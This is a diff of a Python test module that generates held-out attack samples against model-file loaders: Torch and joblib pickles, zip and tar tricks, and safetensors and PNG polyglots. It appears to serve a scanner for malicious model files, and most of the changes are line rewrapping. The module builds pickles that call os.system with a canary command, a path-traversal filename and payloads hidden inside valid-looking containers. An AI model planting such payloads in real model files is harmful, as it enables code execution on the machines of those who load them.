@@ -1,6 +1,6 @@
 """Held-out attacks: containers. Torch, joblib and NumPy files, zip and tar tricks, compressed layers, polyglots."""
 
-# ruff: noqa: E501 (one attack a line)
+# ruff: noqa: E501, E731 (one attack a line)
 from __future__ import annotations
 
 import bz2
@@ -71,7 +71,9 @@ def tarred(*members: tuple[str, bytes | None, dict[str, object]], form: int = ta
     return out.getvalue()
 
 
-def _make(family: str, loader: str, load: str, rules: frozenset[str], table: dict[str, tuple], file: str) -> Iterator[Attack]:
+def _make(
+    family: str, loader: str, load: str, rules: frozenset[str], table: dict[str, tuple], file: str
+) -> Iterator[Attack]:
     for what, row in table.items():
         does, data, *rest = row
         own = rest[0] if rest and rest[0] else rules
@@ -83,7 +85,15 @@ def _make(family: str, loader: str, load: str, rules: frozenset[str], table: dic
 
 def torch() -> Iterator[Attack]:
     storage = ("storage", name("torch:FloatStorage"), "0", "cpu", 1)
-    tensor = call("torch._utils:_rebuild_tensor_v2", Raw(op(storage) + b"Q"), 0, (1,), (1,), False, call("collections:OrderedDict"))
+    tensor = call(
+        "torch._utils:_rebuild_tensor_v2",
+        Raw(op(storage) + b"Q"),
+        0,
+        (1,),
+        (1,),
+        False,
+        call("collections:OrderedDict"),
+    )
     state = stream(op({"w": tensor}), proto=2)
     weights = ("data/0", b"\0\0\x80?")
     magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
@@ -109,12 +119,28 @@ def torch() -> Iterator[Attack]:
 
 
 def joblib() -> Iterator[Attack]:
-    wrapper = {"subclass": name("numpy:ndarray"), "shape": (1,), "order": "C", "dtype": call("numpy:dtype", "O8", False, True), "allow_mmap": False}
+    wrapper = {
+        "subclass": name("numpy:ndarray"),
+        "shape": (1,),
+        "order": "C",
+        "dtype": call("numpy:dtype", "O8", False, True),
+        "allow_mmap": False,
+    }
     big = {**wrapper, "shape": (1 << 34,), "dtype": call("numpy:dtype", "f8", False, True)}
-    array = lambda state: build(new("joblib.numpy_pickle:NumpyArrayWrapper"), state)  # noqa: E731
-    head = lambda state: stream(array(state))[:-1]  # noqa: E731
-    old = build(new("joblib.numpy_pickle_compat:NDArrayWrapper"), {"filename": "../../../../tmp/outside/canary.npy", "subclass": name("numpy:ndarray"), "allow_mmap": True})
-    zfile = build(new("joblib.numpy_pickle_compat:ZNDArrayWrapper"), {"filename": "z.z", "init_args": (name("numpy:ndarray"), (0,), b"b"), "state": (1, (1,), call("numpy:dtype", "O8", False, True), False)})
+    array = lambda state: build(new("joblib.numpy_pickle:NumpyArrayWrapper"), state)
+    head = lambda state: stream(array(state))[:-1]
+    old = build(
+        new("joblib.numpy_pickle_compat:NDArrayWrapper"),
+        {"filename": "../../../../tmp/outside/canary.npy", "subclass": name("numpy:ndarray"), "allow_mmap": True},
+    )
+    zfile = build(
+        new("joblib.numpy_pickle_compat:ZNDArrayWrapper"),
+        {
+            "filename": "z.z",
+            "init_args": (name("numpy:ndarray"), (0,), b"b"),
+            "state": (1, (1,), call("numpy:dtype", "O8", False, True), False),
+        },
+    )
     dtype_stream = head(wrapper) + EVIL
     load = "import joblib; print(bytes(joblib.load(F))[:40])"
     squeezed = b"ZF" + hex(len(EVIL)).encode().ljust(19) + zlib.compress(EVIL)
@@ -243,7 +269,9 @@ def _pile(names: list[str], data: bytes) -> bytes:
     out, directory, crc = bytearray(), bytearray(), zlib.crc32(data)
     for key in map(str.encode, names):
         common = struct.pack("<HHHIIIIHH", 0, 8, 0, 0x21, crc, len(body), len(data), len(key), 0)
-        directory += b"PK\x01\x02" + struct.pack("<HH", 20, 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + key
+        directory += (
+            b"PK\x01\x02" + struct.pack("<HH", 20, 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + key
+        )
         out += b"PK\x03\x04" + struct.pack("<H", 20) + common + key + body
     end = struct.pack("<HHHHIIH", 0, 0, len(names), len(names), len(directory), len(out), 0)
     return bytes(out + directory) + b"PK\x05\x06" + end
@@ -312,7 +340,13 @@ def polyglots() -> Iterator[Attack]:
     tensors = struct.pack("<Q", len(header)) + header + evil
     inside = "import safetensors.numpy; safetensors.numpy.load_file(F); import torch; torch.load(F, weights_only=False)"
     both = EVIL + npy("'<f4'", "(1,)", b"\0" * 4)
-    png = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + b"\0\0\0\x01\0\0\0\x01\x08\0\0\0\0" + b":~\x9bU" + b"\0\0\0\0IEND\xaeB`\x82"
+    png = (
+        b"\x89PNG\r\n\x1a\n"
+        + b"\0\0\0\rIHDR"
+        + b"\0\0\0\x01\0\0\0\x01\x08\0\0\0\0"
+        + b":~\x9bU"
+        + b"\0\0\0\0IEND\xaeB`\x82"
+    )
     json_zip = b'{"model_type": "bert"}\n' + torch_zip(EVIL)
     tables = {
         "safetensors-torch": ("a valid safetensors file whose tensor is a torch archive, under the name of one", {"pytorch_model.bin": tensors}, HIDDEN | CALL | FOREIGN, inside),
@@ -329,7 +363,9 @@ def polyglots() -> Iterator[Attack]:
 
 
 def _pickle_tar() -> bytes:
-    return tarred(("cos\nsystem\n(S'" + TOUCH + "'\ntR.", b"x", {}), ("w.bin", b"\0" * 10, {}), form=tarfile.USTAR_FORMAT)
+    return tarred(
+        ("cos\nsystem\n(S'" + TOUCH + "'\ntR.", b"x", {}), ("w.bin", b"\0" * 10, {}), form=tarfile.USTAR_FORMAT
+    )
 
 
 def attacks() -> Iterator[Attack]:
